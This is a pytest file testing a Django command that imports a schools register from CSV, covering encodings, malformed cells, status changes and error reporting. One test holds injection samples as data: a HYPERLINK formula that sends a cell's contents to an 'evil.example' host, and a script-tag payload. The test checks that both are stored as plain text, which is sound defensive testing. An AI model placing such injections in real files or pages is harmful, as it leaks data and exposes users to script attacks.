"""The import as a whole: the three real layouts, and every difficult file with what EXPECTED.md says of it."""

import json
from collections import Counter
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from audit.models import Activity
from schools.models import RegisterImport, School, SchoolStatus, SchoolUrn, Trust

pytestmark = pytest.mark.django_db

FILES = Path(__file__).parent.parent / "data" / "register"
NASTY = {path.name[:3]: path for path in (FILES / "nasty").iterdir()}
EDUBASE = FILES / "edubase_830_831_140cols_cp1252.csv"
NOVEMBER = FILES / "gias_2023-11_derbyshire_only.csv"


def run(path, *options):
    """The command's one object and its exit code."""
    out = StringIO()
    code = 0
    try:
        call_command("import_register", str(path), "--json", *options, stdout=out)
    except SystemExit as end:
        code = end.code
    return json.loads(out.getvalue()), code


def counts(report):
    return {kind: len(found) for kind, found in report.items() if found}


def lines(found):
    return [finding["line"] for finding in found]


@pytest.mark.parametrize("area", [(), ("--la", "830")])
@pytest.mark.parametrize(
    ("name", "expected"),
    {
        "n01": {"new": 12},
        "n02": {"new": 12},
        "n03": {"new": 12},
        "n04": {"new": 6},
        "n05": {"new": 8, "warnings": 1, "errors": 1},
        "n06": {"new": 2, "skipped": 58},
        "n07": {"new": 5, "skipped": 40},
        "n08": {"new": 2, "skipped": 8},
        "n09": {"new": 4, "skipped": 4},
        "n10": {"new": 4, "warnings": 1, "errors": 3},
        "n11": {"new": 7},
        "n12": {"errors": 1},
    }.items(),
)
def test_every_difficult_file_gives_what_is_expected(name, expected, area):
    if name == "n08":
        expected = {"skipped": 10} if area else {"new": 3, "skipped": 7}
    report, code = run(NASTY[name], *area)
    assert counts(report) == expected
    assert code == int("errors" in expected)
    assert School.objects.count() == SchoolUrn.objects.count() == (0 if code else expected.get("new", 0))
    again, code = run(NASTY[name], *area)
    if not code:
        assert counts(again).get("new", 0) == counts(again).get("changed", 0) == 0
        assert counts(again).get("unchanged", 0) == expected.get("new", 0)


def test_windows_1252_utf_8_and_utf_16_give_the_same_schools():
    found = []
    for name in ("n01", "n02", "n03"):
        School.objects.all().delete()
        run(NASTY[name])
        found.append(
            list(
                School.objects.order_by("urn").values(
                    "urn", "name", "street", "locality", "postcode", "easting", "phase"
                )
            )
        )
    assert found[0] == found[1] == found[2]
    names = {school["urn"]: school["name"] for school in found[0]}
    assert names["112815"] == "St Anne’s – Buxton Federation (Infant Site)"
    assert names["112603"] == "“Little Acorns” Nursery & Primary"
    assert School.objects.get(urn="112864").locality == "£1.2m building, Café Road, Wirksworth"


def test_line_breaks_commas_and_quotes_in_cells():
    run(NASTY["n04"])
    assert School.objects.get(urn="112654").street == "The Old School House, Church Lane"
    assert School.objects.get(urn="112516").locality == 'Unit 3, "Annexe"'
    assert School.objects.get(urn="112548").name == 'Say ""Hello"" Primary, The'


def test_a_contradiction_names_both_lines_and_refuses_the_file():
    report, code = run(NASTY["n05"])
    assert code == 1
    assert (lines(report["warnings"]), lines(report["errors"])) == ([10], [11])
    assert "line 3" in report["errors"][0]["message"]
    assert "line 11" in report["errors"][0]["message"]
    assert report["errors"][0]["urn"] == "112550"


def test_the_four_states_are_kept_apart():
    run(NOVEMBER, "--la", "830")
    found = Counter(School.objects.values_list("status", flat=True))
    assert found == {SchoolStatus.OPEN: 447, SchoolStatus.CLOSING: 4, SchoolStatus.PROPOSED: 4}


def test_damaged_punctuation_is_repaired():
    report, _ = run(NASTY["n08"])
    assert School.objects.get(urn="147296").name == "Beis Rochel d’Satmar School"
    assert School.objects.get(urn="148058").street == "Church Street"
    assert School.objects.get(urn="148058").locality.startswith("Wetheringsett – Cum- Brockford")
    assert not any(0x80 <= ord(c) < 0xA0 for c in json.dumps(report, ensure_ascii=False))


def test_blank_lines_are_ignored_and_misfits_reported_by_line():
    report, _ = run(NASTY["n09"])
    assert lines(report["new"]) == [3, 4, 6, 9]
    assert lines(report["skipped"]) == [7, 8, 11, 12]
    assert [finding["urn"] for finding in report["skipped"]] == ["112661", "112522", None, None]


def test_what_a_spreadsheet_did_is_undone_or_refused():
    report, _ = run(NASTY["n10"])
    assert [finding["urn"] for finding in report["new"]] == ["112589", "112787", "112881", "112595"]
    assert "S41 7JH" in report["new"][3]["message"]
    assert [(f["line"], f["message"].partition(":")[0]) for f in report["errors"]] == [
        (6, "UKPRN"),
        (7, "Easting"),
        (7, "LastChangedDate"),
    ]
    assert report["warnings"][0]["line"] == 2


def test_formulas_and_markup_stay_text():
    run(NASTY["n11"])
    assert set(School.objects.values_list("name", flat=True)) >= {
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+44 1629 580000",
        "<script>alert(1)</script> Primary",
        "=1+1",
    }


def test_a_missing_column_is_named():
    report, code = run(NASTY["n12"])
    assert code == 1
    assert report["errors"] == [{"line": 1, "urn": None, "message": "The file has no column EstablishmentName."}]


def test_nought_by_nought_is_no_place():
    run(NASTY["n07"])
    assert School.objects.filter(easting=0).count() == 0


def test_the_county_comes_in_whole_and_a_second_time_changes_nothing():
    report, code = run(EDUBASE, "--la", "830")
    assert (code, counts(report)) == (0, {"new": 455, "skipped": 531})
    assert School.objects.filter(status=SchoolStatus.OPEN).count() == 447
    assert School.objects.open().count() == 451
    assert School.objects.exclude(la_code="830").count() == 0
    assert Trust.objects.count() > 0
    again, _ = run(EDUBASE, "--la", "830")
    assert counts(again) == {"unchanged": 455, "skipped": 531}
    assert RegisterImport.objects.count() == 2


@pytest.mark.parametrize(
    ("path", "new", "skipped"),
    [("gias_fullcolumns_2018_4rows133cols.csv", 4, 0), ("gias_fullcolumns_2021_99rows139cols.csv", 42, 57), ("gias_fullcolumns_2024_41rows140cols.csv", 33, 8)],
)  # fmt: skip
def test_the_three_layouts(path, new, skipped):
    report, code = run(FILES / path)
    assert (code, len(report["new"]), len(report["skipped"])) == (0, new, skipped)


def test_a_layout_with_fewer_columns_blanks_nothing():
    run(EDUBASE, "--la", "830")
    before = list(School.objects.order_by("pk").values("district", "website", "trust", "age_low", "phase", "head_name"))
    run(NOVEMBER)
    assert (
        list(School.objects.order_by("pk").values("district", "website", "trust", "age_low", "phase", "head_name"))
        == before
    )


def rewritten(tmp_path, **changed):
    """The file n01 with some cells of Padfield (112552) exchanged, and its line."""
    text = NASTY["n02"].read_text("utf-8-sig")
    for old, new in changed.items():
        assert text.count(old.replace("_", " ")) == 1
        text = text.replace(old.replace("_", " "), new)
    path = tmp_path / "register.csv"
    path.write_text(text, "utf-8")
    return path


def test_changes_are_told_field_by_field_and_recorded(tmp_path):
    run(NASTY["n02"])
    path = rewritten(tmp_path, Padfield_Community_Primary_School="Padfield Primary School", SK13_1EQ="SK13 1EX")
    preview, _ = run(path, "--dry-run")
    assert School.objects.filter(name="Padfield Primary School").count() == 0
    report, _ = run(path)
    assert report == preview
    assert counts(report) == {"changed": 1, "unchanged": 11}
    assert report["changed"] == [{
        "line": 9,
        "urn": "112552",
        "message": "Padfield Community Primary School: name is now Padfield Primary School, was Padfield Community Primary School; "
        "postcode is now SK13 1EX, was SK13 1EQ",
    }]  # fmt: skip
    school = School.objects.get(urn="112552")
    assert list(School.objects.search("padfield sk131ex")) == [school]
    note = Activity.objects.of_school(school.pk).get()
    assert (note.verb, note.details["changes"]["postcode"]) == ("changed", ["SK13 1EQ", "SK13 1EX"])


def test_a_known_school_closes_and_is_kept(tmp_path):
    run(NASTY["n02"])
    path = rewritten(tmp_path, **{"Padfield Community Primary School,01,Community school,1,Open,,": "Padfield Community Primary School,01,Community school,2,Closed,31-08-2024,"})  # fmt: skip
    report, _ = run(path)
    assert counts(report) == {"closed": 1, "unchanged": 11}
    assert report["closed"][0]["message"] == "Padfield Community Primary School: closed on 31 August 2024"
    assert School.objects.get(urn="112552").status == SchoolStatus.CLOSED
    assert counts(run(path)[0]) == {"unchanged": 12}


def test_an_error_anywhere_leaves_everything_as_it_was(tmp_path):
    path = rewritten(tmp_path, **{"138470,830": "13847X,830"})
    report, code = run(path)
    assert (code, counts(report)) == (1, {"new": 11, "errors": 1})
    assert report["errors"][0]["line"] == 13
    assert (School.objects.count(), RegisterImport.objects.count(), Activity.objects.count()) == (0, 0, 0)


def test_an_earlier_urn_does_not_touch_the_school_that_had_it():
    run(NASTY["n02"])
    school = School.objects.get(urn="112552")
    SchoolUrn.objects.create(school=school, urn="149999")
    School.objects.filter(pk=school.pk).update(urn="149999", name="Padfield Academy")
    report, _ = run(NASTY["n02"])
    assert counts(report) == {"skipped": 1, "unchanged": 11}
    assert School.objects.get(pk=school.pk).name == "Padfield Academy"


def test_a_plain_run_speaks_in_sentences(capsys):
    call_command("import_register", str(NASTY["n06"]), "--dry-run")
    assert "2 new, 0 changed, 0 closed, 0 unchanged, 58 skipped, 0 warnings, 0 errors" in capsys.readouterr().out
    with pytest.raises(SystemExit):
        call_command("import_register", str(NASTY["n12"]))
    assert "line 1: The file has no column EstablishmentName." in capsys.readouterr().err


@pytest.mark.parametrize("arguments", [("nowhere.csv",), (str(EDUBASE), "--la", "Derbyshire")])
def test_wrong_arguments_are_named(arguments):
    with pytest.raises(CommandError):
        call_command("import_register", *arguments)


def test_what_is_no_table_is_refused_in_words(tmp_path):
    for number, content in enumerate(
        (b"", b"%PDF-1.7", b"PK\x03\x04nothing", b"a\0b\0", b'URN,"LA', b"\xff\xfea", b"\n\n")
    ):
        path = tmp_path / f"{number}.csv"
        path.write_bytes(content)
        report, code = run(path)
        assert (code, counts(report)) == (1, {"errors": 1})


HEADER = "URN,LA (code),EstablishmentName,TypeOfEstablishment (name),EstablishmentStatus (name),PhaseOfEducation (name),Postcode"
LINE = "112552,830,Padfield School,Community school,Open,Primary,SK13 1EQ"


def typed(tmp_path, *rows, header=HEADER):
    path = tmp_path / "typed.csv"
    path.write_text("\n".join((header, *rows)), "utf-8")
    return run(path)[0]


def test_a_school_changes_its_trust_and_its_closing_day(tmp_path):
    header = f"{HEADER},Trusts (code),Trusts (name),CloseDate"
    typed(tmp_path, f"{LINE},12,North Trust,", header=header)
    report = typed(tmp_path, f"{LINE},13,South Trust,31-08-2026", header=header)
    assert report["changed"][0]["message"] == (
        "Padfield School: closing date is now 31 August 2026, was nothing; trust is now South Trust, was North Trust"
    )
    assert School.objects.get(urn="112552").trust.name == "South Trust"
    closed = LINE.replace("Open", "Closed")
    report = typed(tmp_path, f"{closed},,,31-08-2026", header=header)
    assert (
        report["closed"][0]["message"]
        == "Padfield School: closed on 31 August 2026; trust is now nothing, was South Trust"
    )
    assert School.objects.get(urn="112552").trust is None


@pytest.mark.parametrize(
    ("line", "kind", "message"),
    [
        (LINE.replace("Open", "Ajar"), "errors", "EstablishmentStatus (name): “Ajar” is not a status of the register."),
        (LINE.replace("Padfield School", ""), "errors", "EstablishmentName is empty."),
        (LINE.replace("112552", ""), "errors", "This line has no URN."),
        (LINE.replace("830", "Shire"), "errors", "“Shire” is not the code of a local authority."),
        (LINE.replace("112552", "1125"), "errors", "URN: “1125” is not a URN of six digits."),
        (LINE.replace("Padfield School", "x" * 201), "warnings", "The name is longer than 200 characters and was cut."),
        (LINE.replace("Padfield", "Pad\ufffdeld"), "warnings", "The name has a character that was damaged before the file reached us."),
        (LINE.replace("SK13 1EQ", "Glossop"), "warnings", "“Glossop” does not look like a postcode."),
        ("Total,,,,,,", "skipped", "Not a school: “Total”"),
        (LINE + ",,,", "new", "Padfield School, SK13 1EQ"),
        (LINE.replace("Open", "Proposed to open"), "new", "Padfield School, SK13 1EQ (Proposed to open)"),
        (LINE.replace("830", "0").replace("Community school", "British schools overseas"), "skipped", "Out of area, not in England: Padfield School (no local authority)"),
    ],
)  # fmt: skip
def test_single_lines(tmp_path, line, kind, message):
    report = typed(tmp_path, line)
    assert [(found["line"], found["message"]) for found in report[kind]] == [(2, message)]


def test_a_column_that_stands_twice_or_is_missing_is_named(tmp_path):
    assert (
        typed(tmp_path, header=f"{HEADER},urn")["errors"][0]["message"] == "The column URN stands twice in the header."
    )
    assert typed(tmp_path, header="A,B")["errors"][0]["message"].startswith("The file has no columns URN, LA (code), ")
